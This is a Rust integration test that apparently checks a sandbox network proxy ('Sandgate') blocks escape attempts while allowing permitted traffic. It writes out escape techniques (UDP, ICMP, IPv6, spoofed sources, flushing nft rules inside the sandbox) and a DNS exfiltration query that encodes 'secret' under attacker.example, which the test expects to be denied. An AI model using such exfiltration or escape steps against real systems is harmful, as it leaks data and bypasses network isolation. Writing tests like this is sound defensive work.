//! A sandbox attached to the proxy through a gateway namespace by the sidecar's rules (root):
//! every escape attempt fails and allowed traffic works, with and without proxy settings. The
//! gateway is a namespace of the test's own; the machine's root namespace is never touched.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::process::Command;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::Duration;

use sandgate_sidecar::{AttachConfig, SandboxLink, System, attach};

use super::loopback_policy;
use crate::support::netns::{in_ns, privileged, run};
use crate::support::{origin, proxy};

/// An address that exists nowhere (RFC 2544 benchmarking range): the sandbox's default route
/// sends it to the gateway, where the rules decide.
const NOWHERE: &str = "198.18.0.10";
const TRANSPARENT: u16 = 15001;
const EXPLICIT: u16 = 15000;
const DNS: u16 = 15053;

/// The gateway namespace; removing it (and the sandboxes) on drop.
struct Lab {
    gw: String,
    sandboxes: Vec<String>,
}

impl Drop for Lab {
    fn drop(&mut self) {
        for ns in self.sandboxes.iter().chain(std::iter::once(&self.gw)) {
            let _ = Command::new("ip").args(["netns", "del", ns]).status();
        }
    }
}

fn curl_in(ns: &str, args: &[&str]) -> (u16, String) {
    let out = Command::new("ip")
        .args(["netns", "exec", ns, "curl", "-s", "--max-time", "5", "-w", "\n%{http_code}"])
        .args(args)
        .env_remove("http_proxy")
        .env_remove("https_proxy")
        .env_remove("HTTPS_PROXY")
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let code = text.rsplit('\n').next().unwrap_or("").trim().parse().unwrap_or(0);
    (code, text)
}

/// A TCP listener in `ns` that records whether anything connected.
fn tcp_tripwire(ns: &str, addr: &str) -> std::sync::Arc<std::sync::atomic::AtomicBool> {
    let addr = addr.to_owned();
    let l: TcpListener = in_ns(ns, move || TcpListener::bind(addr).unwrap());
    let hit = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let h = hit.clone();
    std::thread::spawn(move || {
        while l.accept().is_ok() {
            h.store(true, Ordering::SeqCst);
        }
    });
    hit
}

/// A UDP socket in `ns`; `received` says whether a datagram arrived within the wait.
fn udp_listener(ns: &str, addr: &str) -> UdpSocket {
    let addr = addr.to_owned();
    let s: UdpSocket = in_ns(ns, move || UdpSocket::bind(addr).unwrap());
    s.set_read_timeout(Some(Duration::from_millis(800))).unwrap();
    s
}

/// A DNS query for the A record of `name`, recursion desired.
fn dns_query(id: u16, name: &str) -> Vec<u8> {
    let mut q = id.to_be_bytes().to_vec();
    q.extend_from_slice(&[1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
    for label in name.split('.') {
        q.push(u8::try_from(label.len()).unwrap());
        q.extend_from_slice(label.as_bytes());
    }
    q.extend_from_slice(&[0, 0, 1, 0, 1]);
    q
}

fn received(s: &UdpSocket) -> bool {
    let mut buf = [0u8; 512];
    s.recv_from(&mut buf).is_ok()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_attached_sandbox_reaches_only_the_proxy() {
    if !privileged("an_attached_sandbox_reaches_only_the_proxy") {
        return;
    }
    static N: AtomicU32 = AtomicU32::new(0);
    let tag = format!("{:x}{:x}", std::process::id() & 0xfff, N.fetch_add(1, Ordering::Relaxed));
    let lab = Lab { gw: format!("sg-lab-{tag}"), sandboxes: vec![format!("sg-a-{tag}"), format!("sg-b-{tag}")] };
    run(&["ip", "netns", "add", &lab.gw]);
    run(&["ip", "-n", &lab.gw, "link", "set", "lo", "up"]);
    let link = |side: &str, gw: [u8; 4], sbx: [u8; 4]| SandboxLink {
        gateway_if: format!("sgg{tag}{side}"),
        gateway_addr: gw.into(),
        sandbox_addr: sbx.into(),
    };
    let (la, lb) = (link("a", [10, 213, 0, 1], [10, 213, 0, 2]), link("b", [10, 213, 0, 5], [10, 213, 0, 6]));
    let (a, b) = (&lab.sandboxes[0], &lab.sandboxes[1]);
    attach::attach(&mut System, Some(&lab.gw), a, &format!("sgs{tag}a"), &la).unwrap();
    attach::attach(&mut System, Some(&lab.gw), b, &format!("sgs{tag}b"), &lb).unwrap();
    let config = AttachConfig {
        table: sandgate_sidecar::rules::TABLE.to_owned(),
        transparent_port: TRANSPARENT,
        dns_port: DNS,
        explicit_port: Some(EXPLICIT),
        links: vec![la, lb],
    };
    attach::apply_rules(&mut System, Some(&lab.gw), &config).unwrap();
    // A second application changes nothing (one table, replaced in one transaction).
    attach::apply_rules(&mut System, Some(&lab.gw), &config).unwrap();

    let gw = lab.gw.clone();
    let o = origin::serve(
        tokio::net::TcpListener::from_std(in_ns(&gw, || {
            let l = TcpListener::bind("127.0.0.1:0").unwrap();
            l.set_nonblocking(true).unwrap();
            l
        }))
        .unwrap(),
        "plain",
        None,
    );
    let port = o.addr.port();
    let p = proxy::new(&loopback_policy(&[port]))
        .netns(&lab.gw)
        .transparent(&format!("0.0.0.0:{TRANSPARENT}"))
        .listen(&format!("0.0.0.0:{EXPLICIT}"))
        .args(&["--dns", &format!("0.0.0.0:{DNS}")])
        .start();
    let resolve = |host: &str, port: u16| format!("{host}:{port}:{NOWHERE}");

    // Allowed traffic: without proxy settings (redirected) and with them (explicit listener).
    let (code, body) = curl_in(
        a,
        &["--noproxy", "*", "--resolve", &resolve("origin.test", port), &format!("http://origin.test:{port}/in")],
    );
    assert_eq!(code, 200, "{body}");
    let (code, body) =
        curl_in(a, &["-x", &format!("http://10.213.0.1:{EXPLICIT}"), &format!("http://origin.test:{port}/via-proxy")]);
    assert_eq!(code, 200, "{body}");

    // A denied name, and an allowed name on a port it is not allowed on: refused, readable.
    let (code, body) = curl_in(a, &["--noproxy", "*", "--resolve", &resolve("evil.test", 80), "http://evil.test/"]);
    assert_eq!(code, 403, "{body}");
    assert!(body.contains("no rule allows this host"), "{body}");
    let (code, _) =
        curl_in(a, &["--noproxy", "*", "--resolve", &resolve("origin.test", 8081), "http://origin.test:8081/"]);
    assert_eq!(code, 403);
    p.wait_log("port", |v| v["reason"] == "port_not_allowed" && v["listener"] == "transparent");

    // Another sandbox: its listener never sees the connection (the proxy judges it by address).
    let b_hit = tcp_tripwire(b, "0.0.0.0:7000");
    let attempt = |ns: &str, to: &str| {
        let to: SocketAddr = to.parse().unwrap();
        in_ns(ns, move || match TcpStream::connect_timeout(&to, Duration::from_secs(2)) {
            Ok(mut s) => {
                let _ = s.write_all(b"hello?");
                let mut buf = [0u8; 64];
                let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
                let _ = s.read(&mut buf);
                true
            }
            Err(_) => false,
        })
    };
    attempt(a, "10.213.0.6:7000");
    p.wait_log("to sandbox b", |v| v["dst_host"] == "10.213.0.6" && v["reason"] == "ip_not_allowed");

    // UDP anywhere, and DNS to any resolver but Sandgate's: nothing arrives. DNS sent anywhere
    // is answered by Sandgate: allowed names resolved, others NXDOMAIN.
    let host_udp = udp_listener(&lab.gw, "0.0.0.0:9999");
    let host_dns = udp_listener(&lab.gw, "0.0.0.0:53");
    let answers = in_ns(a, || {
        let s = UdpSocket::bind("0.0.0.0:0").unwrap();
        s.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
        for to in ["10.213.0.1:9999", "198.18.0.10:9999", "10.213.0.5:9999"] {
            let _ = s.send_to(b"udp escape", to);
        }
        let mut answers = Vec::new();
        for (id, name) in [(1u16, "origin.test"), (2, "evil.test"), (3, "c2VjcmV0.attacker.example")] {
            s.send_to(&dns_query(id, name), "198.18.0.53:53").unwrap();
            let mut buf = [0u8; 512];
            let n = s.recv(&mut buf).unwrap_or(0);
            answers.push(buf[..n].to_vec());
        }
        answers
    });
    assert!(!received(&host_udp), "UDP reached the gateway");
    assert!(!received(&host_dns), "DNS reached a resolver other than Sandgate's");
    let rcode = |m: &[u8]| m.get(3).map(|b| b & 0x0f);
    assert_eq!(rcode(&answers[0]), Some(0), "allowed name answered");
    assert!(
        answers[0].ends_with(&[127, 0, 0, 1]),
        "with Sandgate's answer (the policy's resolve entry): {:?}",
        answers[0]
    );
    assert_eq!(rcode(&answers[1]), Some(3), "denied name: NXDOMAIN");
    assert_eq!(rcode(&answers[2]), Some(3), "an exfiltrating query goes nowhere");
    p.wait_log("dns denial", |v| {
        v["listener"] == "dns" && v["dst_host"] == "c2vjcmv0.attacker.example" && v["verdict"] == "deny"
    });
    assert!(p.metric("sandgate_proxy_connections_total", &[("listener", "dns"), ("verdict", "allow")]) >= 1.0);

    // ICMP through a raw socket: no echo reply.
    let replied = in_ns(a, || {
        let s =
            socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::RAW, Some(socket2::Protocol::ICMPV4)).unwrap();
        s.set_read_timeout(Some(Duration::from_millis(800))).unwrap();
        // Echo request, id 1 seq 1, checksum precomputed for this header and payload.
        let echo = [8u8, 0, 0xf7, 0xfd, 0, 1, 0, 1];
        let to: SocketAddr = "10.213.0.1:0".parse().unwrap();
        let _ = s.send_to(&echo, &to.into());
        let mut buf = [std::mem::MaybeUninit::<u8>::uninit(); 128];
        s.recv(&mut buf).is_ok()
    });
    assert!(!replied, "ICMP got through");

    // IPv6: root in the sandbox gives its interface an IPv6 address next to the gateway's and
    // connects to a service listening on every IPv6 address there: dropped (Sandgate serves
    // sandboxes over IPv4 only).
    let v6_hit = tcp_tripwire(&lab.gw, "[::]:2223");
    run(&["ip", "-n", &lab.gw, "addr", "add", "fd00:214::1/64", "dev", &format!("sgg{tag}a"), "nodad"]);
    run(&["ip", "-n", a, "addr", "add", "fd00:214::2/64", "dev", &format!("sgs{tag}a"), "nodad"]);
    assert!(!attempt(a, "[fd00:214::1]:2223"), "IPv6 reached the gateway");
    assert!(!v6_hit.load(Ordering::SeqCst));

    // A host service on the gateway address is unreachable.
    let host_hit = tcp_tripwire(&lab.gw, "0.0.0.0:2222");
    assert!(!attempt(a, "10.213.0.1:2222"), "connected to a host service");
    assert!(!host_hit.load(Ordering::SeqCst));

    // A spoofed source address is dropped before the proxy sees it.
    run(&["ip", "-n", a, "addr", "add", "10.213.9.9/32", "dev", &format!("sgs{tag}a")]);
    let spoofed = in_ns(a, move || {
        let s = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None).unwrap();
        s.bind(&"10.213.9.9:0".parse::<SocketAddr>().unwrap().into()).unwrap();
        s.connect_timeout(&format!("{NOWHERE}:{port}").parse::<SocketAddr>().unwrap().into(), Duration::from_secs(2))
            .is_ok()
    });
    assert!(!spoofed, "a spoofed source got through");

    // Root in the sandbox flushing its own rules changes nothing: the rules are not inside.
    run(&["ip", "netns", "exec", a, "nft", "flush", "ruleset"]);
    attempt(a, "10.213.0.6:7000");
    assert!(!b_hit.load(Ordering::SeqCst), "sandbox b was reached");

    // Nothing reaches in: from the gateway (the host) or from another sandbox.
    let a_hit = tcp_tripwire(a, "0.0.0.0:8080");
    assert!(!attempt(&lab.gw, "10.213.0.2:8080"), "the host connected into a sandbox");
    attempt(b, "10.213.0.2:8080");
    assert!(!a_hit.load(Ordering::SeqCst), "something reached into sandbox a");

    let logs = serde_json::to_string(&p.logs()).unwrap();
    assert!(!logs.contains("10.213.9.9"), "the spoofed connection reached the proxy");
}
